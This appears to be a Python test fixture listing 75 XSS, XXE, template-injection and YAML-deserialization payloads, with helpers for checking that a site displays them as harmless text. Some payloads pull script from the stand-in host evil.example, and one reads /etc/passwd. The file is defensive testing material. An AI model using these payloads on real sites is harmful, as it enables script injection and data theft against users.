"""Hostile text for the injection tests: markup, script, unsafe links, breakouts and odd characters.

Every payload is one line and carries its own marker (`p01` ...) early on, so a test can find it on a page,
in a feed or in the search index, and so that its slug differs from every other payload's. `shown(text)` is
what a reader should see once the site has shown the payload as text: control characters become U+FFFD
(as `decode` makes them in files) and runs of whitespace one space (as HTML shows them).
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # script elements, plain and disguised
    '<script>alert("p01")</script>',
    "<SCRIPT SRC=//evil.example/p02.js></SCRIPT>",
    '<scr<script>ipt>alert("p03")</script>',
    '<svg><script>alert&#40;"p04"&#41;</script></svg>',
    "<script\x0c>alert('p05')</script>",
    # event handlers
    '<img src=x onerror=alert("p06")>',
    "<svg onload=alert('p07')>",
    "<body onload=alert('p08')>",
    '<details open ontoggle=alert("p09")>',
    "<video><source onerror=\"alert('p10')\"></video>",
    # breaking out of an attribute or an element
    '"><script>alert("p11")</script>',
    "'><img src=x onerror=alert('p12')>",
    '" onmouseover="alert(\'p13\')" x="',
    "' autofocus onfocus='alert(\"p14\")",
    "<textarea></textarea><script>alert('p15')</script>",
    "<title></title><script>alert('p16')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('p17')>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('p18')>",
    # URLs with schemes that run or smuggle code, plain and obfuscated
    'javascript:alert("p19")',
    'JaVaScRiPt:alert("p20")',
    ' \x01javascript:alert("p21")',
    'java\tscript:alert("p22")',
    'java\x0bscript:alert("p23")',
    '&#106;avascript:alert("p24")',
    '&#x6A;&#x61;vascript:alert("p25")',
    'jav&#x09;ascript:alert("p26")',
    "javascript&colon;alert('p27')",
    "%6Aavascript:alert('p28')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#p29",
    'DATA:text/html,<script>alert("p30")</script>',
    "data:image/svg+xml,<svg onload=alert('p31')>",
    'vbscript:msgbox("p32")',
    'VbScRiPt:msgbox("p33")',
    "file:///etc/passwd#p34",
    # links and embeds written as markup
    "<a href=\"javascript:alert('p35')\">click p35</a>",
    "<a href=\"&#106;avascript:alert('p36')\">p36</a>",
    "<iframe src=\"javascript:alert('p37')\"></iframe>",
    '<object data="data:text/html,p38"></object>',
    "<form action=javascript:alert('p39')><button>p39</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'p40\')">',
    "<base href=//evil.example/p41/>",
    "<link rel=stylesheet href=//evil.example/p42.css>",
    "<style>body{display:none}</style> p43",
    "p44 url(javascript:alert('p44')) expression(alert('p44'))",
    # leaving a <script> of JSON, a comment, a CDATA section
    '</script><script>alert("p45")</script>',
    '</SCRIPT ><script>alert("p46")</script>',
    '\\"}]}</script><script>alert("p47")</script>',
    '"}, "@type": "p48", "x": {"',
    '<!--<script>alert("p49")</script>-->',
    "<!-- p50 never closed",
    "--> p51 closes nothing",
    ']]> p52 <![CDATA[<script>alert("p52")</script>]]>',
    "<![CDATA[p53]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e; p54',
    "p55 \u2028</script>\u2029 line and paragraph separators",
    # direction overrides, invisible characters, control characters
    "\u202ep56 gnp.exe",
    "p57 \u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069 bidi",
    "p58 \u200b\u200c\u200d\u2060\ufeff zero width",
    "p59 \x00 NUL inside",
    "p60 \x01\x02\x1b[31m\x08 control",
    "p61 \x7f\x85\x9f C1",
    "p62 \ufffe\uffff non-characters",
    # template syntax: content is never template source, so it shows as typed
    "{{ 7*7 }} p63",
    "{% raw %}{{ config }}{% endraw %} p64",
    "{{ self.__init__.__globals__ }} p65",
    "{% for x in range(3) %}p66{% endfor %}",
    "{# p67 comment #}",
    "${7*7} #{7*7} <%= 7*7 %> p68",
    # entities and escapes that must stay literal
    "p69 & &amp; &lt;b&gt; &#60;script&#62; &#0;",
    "%3Cscript%3Ealert('p70')%3C/script%3E",
    "\\u003cscript\\u003e p71 \\x3c",
    # Markdown syntax in plain fields stays plain
    "[p72](javascript:alert(1)) <javascript:alert('p72')> ![p72](http://evil.example/p72.png)",
    "`p73` **bold** _em_ # heading",
    # YAML syntax as text
    '!!python/object/apply:os.system ["echo p74"]',
    # plain Unicode
    "p75 \U0001f600 émigré Zürich 北京 مرحبا",
)

_CONTROL = {c: "\ufffd" for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0xFFFE, 0xFFFF)}
_CONTROL |= {c: bytes([c]).decode("cp1252", "replace") for c in range(0x80, 0xA0)}


def marker(payload: str) -> str:
    """The payload's own marker, such as "p07"."""
    return next(w for w in _words(payload) if len(w) == 3 and w[0] == "p" and w[1:].isdigit())


def _words(text: str) -> list[str]:
    out, word = [], ""
    for c in text:
        if c.isalnum():
            word += c
        else:
            out.append(word)
            word = ""
    return [*out, word]


def shown(text: str) -> str:
    """What a reader sees of `text` on a page: controls as U+FFFD, whitespace runs as one space."""
    return " ".join(text.translate(_CONTROL).split())
